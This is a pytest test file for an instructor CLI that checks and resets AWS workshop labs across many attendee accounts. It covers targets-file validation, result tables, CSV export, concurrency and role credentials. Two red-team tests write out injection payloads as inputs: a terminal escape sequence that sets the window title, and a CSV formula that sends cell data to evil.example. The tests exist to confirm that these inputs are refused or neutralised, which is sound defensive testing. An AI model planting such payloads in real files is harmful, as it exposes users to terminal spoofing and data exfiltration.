"""Instructor fleet commands over a room of targets: the targets file, the table and its exports,
a failing target isolated in its row, the account-id guard, catch-up, and concurrency.

Targets are the session sandbox over real HTTP (several attendees in its own account, and
attendee accounts it hosts, reached by assuming their role with STS), plus endpoints that fail
on purpose: a closed port, and a small HTTP server that answers every call with an AWS error
(AccessDenied, Throttling) after a delay, counting how many calls it holds at once. A room of
twenty attendee accounts is in tests/test_fleet_accounts.py.
"""

from __future__ import annotations

import csv
import io
import json
import os
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from mmtui.exitcodes import ExitCode, MmtuiError
from mmtui.fleet.targets import load_targets
from mmtui.sandbox.core.server import Sandbox
from tests.conftest import LAB3_STEPS, AttendeeSandbox, invoke

ACCOUNT = "123456789012"  # the sandbox's account
OTHER = "111111111111"  # an account of nobody's (behind the refusing server)
Attendees = Callable[[int], AttendeeSandbox]


def write(tmp_path: Path, name: str, text: str) -> Path:
    path = tmp_path / name
    path.write_text(text)
    return path


def room(
    tmp_path: Path,
    url: str,
    attendees: str,
    name: str = "room.yaml",
    keys: tuple[str, str] = ("AKIANOTAREALKEY00000", "not-a-real-secret"),
) -> Path:
    """A YAML targets file whose attendees default to the endpoint `url` with `keys` (the
    sandbox's: `sandbox.credentials()`)."""
    head = (
        f"defaults:\n  endpoint_url: {url}\n  access_key_id: {keys[0]}\n"
        f"  secret_access_key: {keys[1]}\nattendees:\n"
    )
    return write(tmp_path, name, head + attendees)


def fleet(*args: str) -> tuple[int, Any, str]:
    """`mmtui fleet ... --format json`: exit code, the document, stderr."""
    result = invoke("fleet", *args, "--format", "json")
    try:
        document = json.loads(result.stdout)
    except json.JSONDecodeError:
        document = None
    return result.code, document, result.stderr


def by_name(document: dict[str, Any]) -> dict[str, dict[str, Any]]:
    return {target["name"]: target for target in document["targets"]}


def cells(target: dict[str, Any]) -> dict[str, str | None]:
    return {step["id"]: step["cell"] for step in target["steps"]}


# ---------------------------------------------------------------------- an endpoint that refuses


@dataclass
class Refusing:
    """An HTTP server answering every AWS call with an error, after `delay` seconds; the
    path's first part picks the error (`/denied`, `/throttled`)."""

    url: str
    delay: float = 0.0
    in_flight: int = 0
    most_in_flight: int = 0
    calls: int = 0


ERRORS = {
    "denied": (403, "AccessDenied", "User is not authorized to perform: sts:GetCallerIdentity"),
    "throttled": (400, "Throttling", "Rate exceeded"),
}


@pytest.fixture
def refusing() -> Iterator[Refusing]:
    lock = threading.Lock()

    class Handler(BaseHTTPRequestHandler):
        def do_POST(self) -> None:  # noqa: N802  (the http.server API)
            self.rfile.read(int(self.headers.get("Content-Length") or 0))
            with lock:
                state.calls += 1
                state.in_flight += 1
                state.most_in_flight = max(state.most_in_flight, state.in_flight)
            time.sleep(state.delay)
            with lock:
                state.in_flight -= 1
            status, code, message = ERRORS[self.path.strip("/").split("/")[0]]
            body = (
                '<ErrorResponse xmlns="https://sts.amazonaws.com/doc/2011-06-15/"><Error>'
                f"<Type>Sender</Type><Code>{code}</Code><Message>{message}</Message></Error>"
                "<RequestId>1</RequestId></ErrorResponse>"
            ).encode()
            self.send_response(status)
            self.send_header("Content-Type", "text/xml")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.daemon_threads = True
    state = Refusing(f"http://127.0.0.1:{server.server_address[1]}")
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield state
    server.shutdown()
    server.server_close()


def closed_port() -> int:
    import socket

    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return int(probe.getsockname()[1])


# ---------------------------------------------------------------------- the targets file


@pytest.mark.parametrize(
    ("text", "problems"),
    [
        (
            "- name: ann\n  profile: ann\n  rol_arn: arn:aws:iam::123456789012:role/x\n",
            ["room.yaml:3: unknown key 'rol_arn'; did you mean role_arn?"],
        ),
        (
            "- name: ann\n  profile: ann\n- profile: nobody\n",
            ["room.yaml:3: an attendee has no name"],
        ),
        (
            "- name: ann\n  profile: a\n- name: bo\n  profile: b\n- name: Ann\n  profile: c\n",
            ["room.yaml:5: duplicate name 'Ann' (first at line 1)"],
        ),
        (
            "- name: ann\n  profile: ann\n  account_id: '12345'\n",
            ["room.yaml:3: ann: account_id '12345' is not 12 digits"],
        ),
        (
            "- name: ann\n  profile: ann\n  primary_region: us-wst-2\n",
            ["room.yaml:3: ann: primary_region: 'us-wst-2' is not an AWS region; did you mean"],
        ),
        (
            "attendees:\n  - name: ann\n    secondary_region: us-west-2\n    profile: p\n",
            ["room.yaml:3: ann: primary_region and secondary_region are both us-west-2"],
        ),
        (  # red-team C6: a pair across partitions, named on the secondary's line
            "- name: ann\n  profile: p\n  primary_region: us-west-2\n"
            "  secondary_region: cn-north-1\n",
            [
                "room.yaml:4: ann: primary_region us-west-2 and secondary_region cn-north-1 "
                "are in different AWS partitions (aws and aws-cn)"
            ],
        ),
        (
            "- name: ann\n",
            ["room.yaml:1: ann: say how to reach the account: profile, role_arn"],
        ),
        (
            "- name: ann\n  profile: p\n  role_arn: arn:aws:iam::123456789012:role/x\n",
            ["room.yaml:2: ann: profile and role_arn are two ways in; choose one"],
        ),
        (
            "- name: ann\n  role_arn: arn:aws:iam::123456789012:role/x\n"
            "  account_id: '210987654321'\n",
            ["room.yaml:2: ann: role_arn is in account 123456789012 but account_id says"],
        ),
        (
            "- name: ann\n  profile: p\n  access_key_id: AKIA\n  secret_access_key: s\n",
            ["room.yaml:3: ann: access keys in a targets file are only for an endpoint"],
        ),
        (
            "defaults:\n  name: everyone\nattendees:\n  - name: ann\n    profile: p\n",
            ["room.yaml:2: name is each attendee's own; it cannot be a default"],
        ),
        ("- name: ann\n  profile: [p\n", ["room.yaml:3: invalid YAML"]),
        ("[]\n", ["room.yaml:1: no attendees"]),
        # Every problem at once, in the order of the file.
        (
            # The walkthrough's file: each kind of problem, all in one message (not in rounds:
            # a problem of the defaults, or of an attendee, hid the others).
            "defaults:\n  colour: red\nattendees:\n  - name: ana\n    acess_key_id: x\n"
            "    endpoint_url: http://127.0.0.1:5000\n  - name: ben\n"
            '    account_id: "12345678901"\n    profile: b\n  - name: ana\n    profile: c\n'
            "    primary_region: us-west-3\n",
            [
                "room.yaml:2: unknown key 'colour'",
                "room.yaml:5: unknown key 'acess_key_id'; did you mean access_key_id?",
                "room.yaml:8: ben: account_id '12345678901' is not 12 digits",
                "room.yaml:10: duplicate name 'ana' (first at line 4)",
                "room.yaml:12: ana: primary_region: 'us-west-3' is not an AWS region",
            ],
        ),
        (
            "- name: ann\n  profile: p\n  colour: red\n- name: bo\n  role_name: Admin\n",
            [
                "room.yaml:3: unknown key 'colour'",
                "room.yaml:5: bo: role_name needs the attendee's account_id",
            ],
        ),
    ],
)
def test_yaml_problems_name_file_and_line_and_exit_2(
    tmp_path: Path, text: str, problems: list[str]
) -> None:
    path = write(tmp_path, "room.yaml", text)
    result = invoke("fleet", "check", "--targets", str(path))
    assert result.code == ExitCode.USAGE, result.stderr
    assert result.stdout == ""
    lines = result.stderr.removeprefix("mmtui: ").splitlines()
    assert len(lines) == len(problems), result.stderr
    for line, problem in zip(lines, problems, strict=True):
        assert line.startswith(f"{tmp_path}/{problem}"), (line, problem)


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        ("name,profile,colour\nann,p,red\n", "room.csv:1: unknown column 'colour'"),
        ("profile\np\n", "room.csv:1: no `name` column"),
        ("name,profile\nann,p\n\nbo,q\nann,r\n", "room.csv:5: duplicate name 'ann'"),
        ("name,profile,account_id\nann,p,0123\n", "room.csv:2: ann: account_id '0123'"),
        ("name,endpoint_url\nann,localhost:5000\n", "room.csv:2: ann: endpoint_url: 'local"),
        ("# room 12\nname,profile,primary_region\nann,p,mars-1\n", "room.csv:3: ann: primary_"),
        ("name,profile\nann,p,extra\n", "room.csv:2: 3 cells but the header has 2 columns"),
        # Behind an unknown column, the rows are judged too (all at once).
        ("name,profile,colour\nann,p,red\nann,q,blue\n", "room.csv:3: duplicate name 'ann'"),
    ],
)
def test_csv_problems_name_file_and_row(tmp_path: Path, text: str, problem: str) -> None:
    path = write(tmp_path, "room.csv", text)
    result = invoke("fleet", "solve", "--targets", str(path), "--through", "1")
    assert result.code == ExitCode.USAGE
    lines = result.stderr.removeprefix("mmtui: ").splitlines()
    assert any(line.startswith(f"{tmp_path}/{problem}") for line in lines), result.stderr


TITLE_AND_RED = "\x1b]0;pwned-title\x07\x1b[31mred[bold]x[/bold]"
"""Red-team F4: sets the terminal's title, then turns the text red."""


@pytest.mark.parametrize(
    ("name", "text"),
    [
        # YAML's own escapes in a double-quoted string, as the red team wrote them (\e, \a).
        (
            "room.yaml",
            '- name: "ann"\n  profile: p\n'
            '- name: "\\e]0;pwned-title\\a\\e[31mred[bold]x[/bold]"\n  profile: p\n',
        ),
        ("room.csv", f"name,profile\nann,p\n{TITLE_AND_RED},p\n"),
    ],
)
def test_control_characters_in_a_targets_file_are_refused_by_line(
    tmp_path: Path, name: str, text: str
) -> None:
    """Escape sequences and bells in a name are refused where the file is read, so no output
    (progress lines, the table, errors, CSV) ever carries them to a terminal."""
    path = write(tmp_path, name, text)
    for command in (["check"], ["check", "--format", "csv"], ["solve", "--through", "1"]):
        result = invoke("fleet", *command, "--targets", str(path))
        assert result.code == ExitCode.USAGE, result.stderr
        assert result.stdout == ""
        assert result.stderr.startswith(
            f"mmtui: {path}:3: name '\\x1b]0;pwned-title\\x07\\x1b[31mred[bold]x[/bold]' "
            "holds the control character \\x1b"
        ), result.stderr
        assert "\x1b" not in result.stderr and "\x07" not in result.stderr


def test_csv_cells_that_would_start_a_formula_are_text_and_json_is_unchanged(
    tmp_path: Path,
) -> None:
    """Red-team F4: a name a spreadsheet would run as a formula. One unreachable target is
    enough: its row has the name and the error, and no AWS is needed."""
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    path = room(
        tmp_path,
        f"http://127.0.0.1:{closed_port()}",
        f"  - name: '{formula}'\n  - name: '-ana'\n  - name: plain\n",
    )
    exported = invoke("fleet", "check", "--targets", str(path), "--step", "1", "--format", "csv")
    assert exported.code == ExitCode.AWS_ERROR, exported.stderr
    rows = list(csv.reader(io.StringIO(exported.stdout)))
    assert [row[0] for row in rows] == ["name", "'" + formula, "'-ana", "plain"]
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    data = invoke("fleet", "check", "--targets", str(path), "--step", "1", "--format", "json")
    names = [target["name"] for target in json.loads(data.stdout)["targets"]]
    assert names == [formula, "-ana", "plain"]  # data, not a spreadsheet: as written


def test_missing_targets_file(tmp_path: Path) -> None:
    result = invoke("fleet", "check", "--targets", str(tmp_path / "nope.yaml"))
    assert result.code == ExitCode.USAGE
    assert "does not exist" in result.stderr


def test_the_ways_in_and_room_defaults(tmp_path: Path) -> None:
    (tmp_path / "ws").mkdir()
    path = write(
        tmp_path,
        "room.yml",
        """\
defaults:
  role_name: WorkshopAdmin
  external_id: mm-2025-room-1
  secondary_region: eu-central-1
  primary_region: eu-west-1
attendees:
  - {name: ann, account_id: "012345678901"}
  - {name: bo, role_arn: "arn:aws:iam::210987654321:role/Other", source_profile: boss}
  - {name: cy, profile: cy, workspace: ws}
  - {name: di, endpoint_url: "http://127.0.0.1:5000/", access_key_id: a, secret_access_key: b}
""",
    )
    ann, bo, cy, di = load_targets(path)
    assert ann.spec.role is not None and ann.account_id == "012345678901"
    assert ann.spec.role.arn == "arn:aws:iam::012345678901:role/WorkshopAdmin"
    assert ann.spec.role.external_id == "mm-2025-room-1"
    assert ann.spec.role.session_name == "mmtui-ann"
    assert ann.spec.regions == ("eu-west-1", "eu-central-1")
    assert bo.spec.role is not None and bo.spec.role.account_id == "210987654321"
    assert (bo.spec.kind, bo.spec.profile) == ("aws", "boss")
    # A room-wide role and external id do not apply to an attendee with a profile of their own.
    assert (cy.spec.role, cy.spec.profile, cy.spec.workspace) == (None, "cy", tmp_path / "ws")
    # ... nor does a room-wide role_name to one without an account_id.
    assert di.spec.kind == "endpoint" and di.spec.endpoint_url == "http://127.0.0.1:5000"
    assert di.spec.credentials == ("a", "b")
    assert ann.where == f"{path}:7"

    csv_path = write(
        tmp_path,
        "room.txt",  # told apart by its content
        "name,role_arn,external_id,account_id\n"
        "ann,arn:aws:iam::012345678901:role/Admin,room-1,012345678901\n",
    )
    (only,) = load_targets(csv_path)
    assert only.spec.role is not None and only.spec.role.external_id == "room-1"
    assert only.spec.regions == ("us-west-2", "us-east-1")


# ---------------------------------------------------------------------- a room on the sandbox


def test_check_a_room_where_some_targets_fail(
    attendee_accounts: Attendees, refusing: Refusing, tmp_path: Path
) -> None:
    """Each failing target is reported in its row with the reason and the exit code of its
    kind; the others are checked as usual; the fleet exits with the most pressing code."""
    attendees = attendee_accounts(1)
    sandbox, (record,) = attendees.sandbox, attendees.accounts[:1]
    path = room(
        tmp_path,
        sandbox.url,
        f"""\
  - name: ann
    account_id: "{ACCOUNT}"
  - name: bo
    role_arn: {record.role_arn}
    external_id: {attendees.external_id}
  - name: cy
    endpoint_url: http://127.0.0.1:{closed_port()}
  - name: di
    endpoint_url: {refusing.url}/denied
  - name: ed
    endpoint_url: {refusing.url}/throttled
  - name: fi
    endpoint_url: {sandbox.url}
    access_key_id: ""
    secret_access_key: ""
""",
        keys=sandbox.credentials(),
    )
    code, document, stderr = fleet("check", "--targets", str(path))
    assert code == ExitCode.CREDENTIALS, stderr
    assert document["exit_code"] == 3 and document["status"] == "error"
    targets = by_name(document)
    assert list(targets) == ["ann", "bo", "cy", "di", "ed", "fi"]  # the file's order

    ann = targets["ann"]
    assert (ann["status"], ann["account"], ann["exit_code"], ann["error"]) == (
        "fail",
        ACCOUNT,
        1,
        None,
    )
    assert cells(ann) == {
        "prerequisites": "pass",
        "infrastructure": "fail",
        "data-tier": "fail",
        "pipeline": "fail",
        "build-artifacts": "fail",
        "dashboard": "fail",
        "checkpoint": "fail",
    }
    prerequisites = ann["steps"][0]
    assert prerequisites["checks"] and prerequisites["status"] == "pass"
    assert set(prerequisites["checks"][0]) >= {"id", "region", "status", "expected", "observed"}

    # bo is in an attendee account, reached through STS AssumeRole: as Labs 0-2 leave it too.
    bo = targets["bo"]
    assert (bo["account"], bo["status"], bo["exit_code"]) == (record.account_id, "fail", 1)
    assert bo["identity"] == (
        f"arn:aws:sts::{record.account_id}:assumed-role/{record.role_name}/mmtui-bo"
    )
    assert cells(bo) == cells(ann)

    cy, di, ed, fi = (targets[n] for n in ("cy", "di", "ed", "fi"))
    assert (cy["status"], cy["exit_code"]) == ("error", 4)
    assert "is the endpoint running?" in cy["error"]
    assert (di["status"], di["exit_code"]) == ("error", 3)
    assert "AccessDenied" in di["error"]
    assert (ed["status"], ed["exit_code"]) == ("error", 4)
    assert "Throttling: Rate exceeded" in ed["error"]
    assert (fi["status"], fi["exit_code"]) == ("error", 3)
    assert "no AWS credentials for the endpoint" in fi["error"]
    for failed in (cy, di, ed, fi):
        assert set(cells(failed).values()) == {None} and failed["account"] is None

    assert document["summary"] == {
        "targets": 6,
        "pass": 0,
        "fail": 2,
        "error": 4,
        "refused": 0,
        "planned": 0,
        "steps": {
            step: ({"pass": 2} if step == "prerequisites" else {"fail": 2}) for step in cells(ann)
        },
    }
    # Progress (not a terminal here): a line per target on stderr, never on stdout.
    assert len([line for line in stderr.splitlines() if line.startswith("[")]) == 6


def test_each_target_begins_its_round_at_another_check(
    sandbox: Sandbox, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Targets that start together would make the same calls in the same instants; each
    begins at its place in the room instead."""
    import mmtui.engine.checks as engine

    firsts: list[int] = []
    run_checks = engine.run_checks

    def recording(*args: Any, first: int = 0, **kwargs: Any) -> Any:
        firsts.append(first)
        return run_checks(*args, first=first, **kwargs)

    monkeypatch.setattr(engine, "run_checks", recording)
    path = room(
        tmp_path,
        sandbox.url,
        "".join(f'  - name: a{n}\n    account_id: "{ACCOUNT}"\n' for n in range(3)),
        keys=sandbox.credentials(),
    )
    code, document, _ = fleet("check", "--targets", str(path), "--step", "1")
    assert code == ExitCode.CHECK_FAILED, document
    assert sorted(firsts) == [0, 1, 2]


def test_table_and_csv(sandbox: Sandbox, tmp_path: Path) -> None:
    path = room(
        tmp_path,
        sandbox.url,
        f'  - name: ann\n    account_id: "{ACCOUNT}"\n'
        f"  - name: cy\n    endpoint_url: http://127.0.0.1:{closed_port()}\n",
        keys=sandbox.credentials(),
    )
    table = invoke("fleet", "check", "--targets", str(path), "--step", "2")
    assert table.code == ExitCode.AWS_ERROR
    rows = table.stdout.splitlines()
    assert rows[0].startswith("Lab 3 on 2 targets")
    header = next(row for row in rows if "attendee" in row)
    assert header.split("┃")[1:-1] == [
        f" {word} ".ljust(len(cell))
        for word, cell in zip(
            ["attendee", "account", "2", "note"], header.split("┃")[1:-1], strict=True
        )
    ]
    ann = next(row for row in rows if "│ ann " in row)
    assert [cell.strip() for cell in ann.split("│")[1:-1]] == ["ann", ACCOUNT, "✘", ""]
    cy = next(row for row in rows if "│ cy " in row)
    assert [cell.strip() for cell in cy.split("│")[1:4]] == ["cy", "-", ""]
    assert "cannot reach" in cy
    assert "steps: 2 data-tier" in table.stdout
    assert rows[-1] == "2 targets: 1 fail, 1 error"

    exported = invoke("fleet", "check", "--targets", str(path), "--format", "csv")
    assert exported.code == ExitCode.AWS_ERROR
    parsed = list(csv.reader(io.StringIO(exported.stdout)))
    assert parsed[0] == ["name", "account_id", "status", "prerequisites", *LAB3_STEPS, "error"]
    assert parsed[1] == ["ann", ACCOUNT, "fail", "pass", *["fail"] * 6, ""]
    assert parsed[2][:10] == ["cy", "", "error", *[""] * 7]
    assert "cannot reach" in parsed[2][10]
    assert len(parsed) == 3


@pytest.mark.parametrize(
    ("name", "step"),
    [("ann", ["--step", "1"]), ("ann", []), ("Annabelle Lee-Richardson", [])],
)
def test_on_80_columns_the_table_fits_and_every_note_is_whole(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str, step: list[str]
) -> None:
    """The note column gets what the other columns leave, folded; when that is too little
    (every step, or a long name), the notes go under the table, one a line: never cut off."""
    path = write(
        tmp_path,
        "room.csv",
        f"name,role_arn,external_id\n{name},arn:aws:iam::{OTHER}:role/WorkshopAdmin,mm-1\n",
    )
    code, document, _ = fleet("check", "--targets", str(path), *step)
    note = document["targets"][0]["error"]
    assert note.startswith("no base credentials to assume") and len(note) > 80
    monkeypatch.setenv("COLUMNS", "80")
    table = invoke("fleet", "check", "--targets", str(path), *step)
    assert table.code == code == ExitCode.CREDENTIALS
    drawn = [line for line in table.stdout.splitlines() if line[:1] in "┏┃┡│└"]
    assert max(len(line) for line in drawn) <= 80
    if step:
        assert drawn[1].split("┃")[-2].strip() == "note"
        folded = "".join(line.split("│")[-2] for line in drawn if line.startswith("│"))
        assert "".join(folded.split()) == "".join(note.split())
    else:
        assert "note" not in drawn[1]
        lines = table.stdout.splitlines()
        assert lines[lines.index("notes:") + 1] == f"  {name}: {note}"


def test_concurrency_is_respected(refusing: Refusing, tmp_path: Path) -> None:
    refusing.delay = 0.3
    attendees = "".join(
        f"  - name: p{n}\n    endpoint_url: {refusing.url}/denied\n" for n in range(6)
    )
    path = room(tmp_path, refusing.url, attendees)
    for concurrency in (1, 3):
        refusing.most_in_flight = refusing.calls = 0
        code, document, _ = fleet(
            "check", "--targets", str(path), "--concurrency", str(concurrency)
        )
        assert code == ExitCode.CREDENTIALS
        assert refusing.calls == 6  # one STS call each: AccessDenied is not retried
        assert refusing.most_in_flight == concurrency
        assert {t["status"] for t in document["targets"]} == {"error"}


def test_checks_default_to_a_room_at_once_and_changes_to_sixteen_at_a_time(
    refusing: Refusing, tmp_path: Path
) -> None:
    """`fleet check` reads fifty accounts at once unless told; `fleet solve` and `reset`
    change sixteen at a time (each change runs builds on a sandbox that serves the room)."""
    refusing.delay = 1.5  # long enough for every target the fleet starts to be waiting

    def targets(count: int) -> Path:
        attendees = "".join(
            f"  - name: p{n}\n    endpoint_url: {refusing.url}/denied\n" for n in range(count)
        )
        return room(tmp_path, refusing.url, attendees, name=f"room-{count}.yaml")

    code, _, _ = fleet("check", "--targets", str(targets(52)))
    assert code == ExitCode.CREDENTIALS
    assert refusing.most_in_flight == 50
    refusing.most_in_flight = 0
    code, _, _ = fleet("solve", "--targets", str(targets(18)), "--step", "1")
    assert code == ExitCode.CREDENTIALS
    assert refusing.most_in_flight == 16


def test_solve_through_1_then_reset_guarded_by_account_id(sandbox: Sandbox, tmp_path: Path) -> None:
    """Two attendees caught up through step 1 (in one account, so they take turns: one does
    it, the other finds it done); then a reset refuses the attendee whose file entry names
    another account, and the one with no account_id, and resets the right one."""
    solve_room = room(
        tmp_path,
        sandbox.url,
        f'  - name: ann\n    account_id: "{ACCOUNT}"\n  - name: bo\n',
        "solve.yaml",
        keys=sandbox.credentials(),
    )
    code, document, stderr = fleet("solve", "--targets", str(solve_room), "--through", "1")
    assert code == ExitCode.OK, stderr
    targets = by_name(document)
    assert [step["id"] for step in targets["ann"]["steps"]] == ["infrastructure"]
    assert sorted(cells(t)["infrastructure"] for t in targets.values()) == ["done", "pass"]
    for target in targets.values():
        assert target["status"] == "pass" and target["steps"][0]["status"] == "pass"
    doer = next(t for t in targets.values() if cells(t)["infrastructure"] == "done")
    assert doer["steps"][0]["done"] == ["deployed mm-secondary-region with IsSecondary=true"]

    reset_room = room(
        tmp_path,
        sandbox.url,
        f'  - name: ann\n    account_id: "{ACCOUNT}"\n'
        '  - name: mal\n    account_id: "999999999999"\n'
        "  - name: bo\n",
        "reset.yaml",
        keys=sandbox.credentials(),
    )
    secondary = sandbox.client("cloudformation", "us-east-1")

    def stack_exists() -> bool:
        names = {s["StackName"] for s in secondary.describe_stacks()["Stacks"]}
        return "mm-secondary-region" in names

    plan = invoke("fleet", "reset", "--targets", str(reset_room), "--step", "1", "--dry-run")
    assert plan.code == ExitCode.CREDENTIALS, plan.stderr  # mal is refused: exit 3 wins
    lines = plan.stdout.splitlines()
    assert lines[:2] == ["plan:", f"  ann ({ACCOUNT}):"]
    actions = [line for line in lines if line.startswith("    ")]
    assert actions[-1] == "    infrastructure: delete stack mm-secondary-region (us-east-1)"
    assert all(line.startswith("    infrastructure: ") for line in actions)
    after = lines[2 + len(actions) :]
    assert after[0].startswith(f"  mal ({ACCOUNT}): refused: the credentials lead to account ")
    assert after[1].startswith(f"  bo ({ACCOUNT}): refused: the targets file names no account_id")
    assert stack_exists()

    unconfirmed = invoke("fleet", "reset", "--targets", str(reset_room), "--step", "1")
    assert unconfirmed.code == ExitCode.CREDENTIALS
    assert "nothing was changed: this is the plan; pass --yes to reset 1 target" in (
        unconfirmed.stderr
    )
    assert stack_exists()

    code, document, stderr = fleet("reset", "--targets", str(reset_room), "--step", "1", "--yes")
    assert code == ExitCode.CREDENTIALS, stderr
    targets = by_name(document)
    assert (targets["ann"]["status"], cells(targets["ann"])) == (
        "pass",
        {"infrastructure": "reset"},
    )
    assert targets["ann"]["steps"][0]["done"] == ["deleted mm-secondary-region"]
    assert (targets["mal"]["status"], targets["mal"]["exit_code"]) == ("refused", 3)
    assert "999999999999" in targets["mal"]["error"]
    assert (targets["bo"]["status"], targets["bo"]["exit_code"]) == ("refused", 2)
    assert not stack_exists()


def test_reset_with_nothing_to_reset_needs_no_yes(sandbox: Sandbox, tmp_path: Path) -> None:
    """Without --yes and with nothing to reset there is nothing to confirm: exit 0, not the
    usage error asking for --yes "to reset 0 targets" (newcomer walkthrough)."""
    path = room(
        tmp_path,
        sandbox.url,
        f'  - name: ann\n    account_id: "{ACCOUNT}"\n',
        keys=sandbox.credentials(),
    )
    result = invoke("fleet", "reset", "--targets", str(path))
    assert result.code == ExitCode.OK, result.stderr
    assert result.stdout.splitlines()[:2] == ["plan:", f"  ann ({ACCOUNT}): nothing to reset"]
    assert "nothing to reset on any target; nothing was changed" in result.stderr
    assert "--yes" not in result.stderr


# ---------------------------------------------------------------------- roles and credentials


def test_role_credentials_are_shared_and_refreshed_before_they_expire(
    attendee_accounts: Attendees, monkeypatch: pytest.MonkeyPatch
) -> None:
    from mmtui.target.clients import ClientFactory

    attendees = attendee_accounts(1)
    (record,) = attendees.accounts[:1]
    account = record.account_id
    factory = ClientFactory(attendees.role_target(record), endpoint_url=attendees.url)
    who = factory.client("sts").get_caller_identity()
    assert who["Account"] == account
    credentials = factory.role_credentials()
    first = credentials.get_frozen_credentials().access_key

    seen: list[str] = []

    def other_thread() -> None:
        seen.append(factory.client("sts").get_caller_identity()["Account"])
        seen.append(factory.session().get_credentials().get_frozen_credentials().access_key)

    thread = threading.Thread(target=other_thread)
    thread.start()
    thread.join()
    assert seen == [account, first]  # another thread, its own session, the same role credentials

    # 47 minutes later (the role's session lasts an hour), as far as botocore's clocks know:
    # the next call assumes the role again.
    import botocore.credentials

    def later() -> datetime:
        return datetime.now(UTC) + timedelta(minutes=47)

    monkeypatch.setattr(botocore.credentials, "_local_now", later)
    monkeypatch.setattr(credentials, "_time_fetcher", later)
    assert factory.client("sts").get_caller_identity()["Account"] == account
    assert credentials.get_frozen_credentials().access_key != first


def test_a_refused_role_says_which_role(refusing: Refusing, tmp_path: Path) -> None:
    path = room(
        tmp_path,
        f"{refusing.url}/denied",
        f"  - name: ann\n    role_arn: arn:aws:iam::{OTHER}:role/WorkshopAdmin\n"
        "    external_id: mm-room-1\n",
    )
    code, document, _ = fleet("check", "--targets", str(path))
    assert code == ExitCode.CREDENTIALS
    error = document["targets"][0]["error"]
    assert error.startswith(
        f"sts:AssumeRole of arn:aws:iam::{OTHER}:role/WorkshopAdmin failed: AccessDenied"
    )
    assert error.endswith("(is the external id right?)")


def test_git_acts_as_the_target_never_as_the_instructor(
    attendee_accounts: Attendees, monkeypatch: pytest.MonkeyPatch
) -> None:
    from mmtui.fleet.run import git_identity
    from mmtui.gitops.repository import aws_identity_for_git, git_environment
    from mmtui.target.clients import ClientFactory
    from mmtui.target.spec import AssumeRole, TargetSpec

    attendees = attendee_accounts(1)
    spec = TargetSpec(
        "endpoint",
        "us-west-2",
        "us-east-1",
        endpoint_url=attendees.url,
        role=AssumeRole(attendees.accounts[0].role_arn, attendees.external_id),
        credentials=attendees.sandbox.credentials(),
    )
    factory = ClientFactory(spec, endpoint_url=attendees.url)
    frozen = factory.role_credentials().get_frozen_credentials()
    monkeypatch.setenv("AWS_PROFILE", "instructor")  # what the instructor's shell says
    monkeypatch.setenv("AWS_ACCESS_KEY_ID", "AKIAINSTRUCTOR")
    with aws_identity_for_git(git_identity(factory)):
        env = git_environment()
    assert env["AWS_ACCESS_KEY_ID"] == frozen.access_key
    assert env["AWS_SESSION_TOKEN"] == frozen.token
    assert "AWS_PROFILE" not in env
    assert git_environment()["AWS_ACCESS_KEY_ID"] == "AKIAINSTRUCTOR"  # outside: as it was

    # A profile target (`--profile ann`): git gets the profile's own keys, and no
    # AWS_PROFILE that would make the credential helper skip them.
    Path(os.environ["AWS_SHARED_CREDENTIALS_FILE"]).write_text(
        "[ann]\naws_access_key_id = AKIAANNSOWNKEY000000\naws_secret_access_key = ann-secret\n"
    )
    profiled = ClientFactory(TargetSpec("aws", "us-west-2", "us-east-1", profile="ann"))
    with aws_identity_for_git(git_identity(profiled)):
        env = git_environment()
    assert env["AWS_ACCESS_KEY_ID"] == "AKIAANNSOWNKEY000000"
    assert env["AWS_SECRET_ACCESS_KEY"] == "ann-secret"
    assert env["AWS_DEFAULT_REGION"] == "us-west-2"
    assert "AWS_PROFILE" not in env and "AWS_SESSION_TOKEN" not in env


def test_a_targets_file_error_is_not_a_target_error(tmp_path: Path) -> None:
    with pytest.raises(MmtuiError) as error:
        load_targets(write(tmp_path, "r.yaml", "attendees: {}\n"))
    assert error.value.exit_code == ExitCode.USAGE
    assert (
        str(error.value)
        == f"{tmp_path}/r.yaml:1: expected a list of attendees (`- name: ...` entries)"
    )


def test_step_4_commits_from_a_workspace_of_each_attendee(sandbox: Sandbox, tmp_path: Path) -> None:
    """With no workspace in the file, each attendee gets clones of their own in mmtui's state
    folder, made when missing; the attendee's own clones are left alone."""
    import git

    from mmtui.paths import state_dir

    tables = next(e for e in sandbox.extensions if e.name == "dynamodb_global")
    tables.replica_create_seconds = 0.3  # type: ignore[attr-defined]
    path = room(
        tmp_path,
        sandbox.url,
        f'  - name: Ann Lee\n    account_id: "{ACCOUNT}"\n',
        keys=sandbox.credentials(),
    )
    code, document, stderr = fleet("solve", "--targets", str(path), "--through", "4")
    assert code == ExitCode.OK, stderr
    (ann,) = document["targets"]
    assert cells(ann) == dict.fromkeys(
        ["infrastructure", "data-tier", "pipeline", "build-artifacts"], "done"
    )
    workspace = Path(ann["workspace"])
    assert workspace == state_dir() / "fleet" / "workspaces" / ACCOUNT / "Ann-Lee"
    clones = sorted(p.name for p in workspace.iterdir())
    assert clones == sorted(p.name for p in sandbox.workspace.glob("*-service-*"))
    for name in clones:
        head = git.Repo(workspace / name).head.commit
        assert "Made-by: mmtui" in str(head.message)
        theirs = git.Repo(sandbox.workspace / name).head.commit
        assert "Made-by: mmtui" not in str(theirs.message)
    assert any("to build and deploy" in line for line in ann["log"])


def test_a_role_with_no_credentials_to_assume_it(tmp_path: Path) -> None:
    """Never the environment's other identity: with no base credentials, the row says so."""
    path = write(
        tmp_path,
        "room.csv",
        "name,role_arn,external_id\nann,arn:aws:iam::111111111111:role/WorkshopAdmin,mm-1\n",
    )
    code, document, _ = fleet("check", "--targets", str(path))
    assert code == ExitCode.CREDENTIALS
    (ann,) = document["targets"]
